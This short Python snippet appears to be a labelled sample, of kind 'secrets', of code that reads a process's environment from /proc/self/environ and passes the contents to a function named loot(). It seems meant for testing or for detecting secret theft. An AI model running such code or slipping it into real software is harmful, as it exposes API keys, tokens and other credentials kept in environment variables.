# kind: secrets
# tries: The environment in /proc

with open("/proc/self/environ") as file:
    loot(file.read())
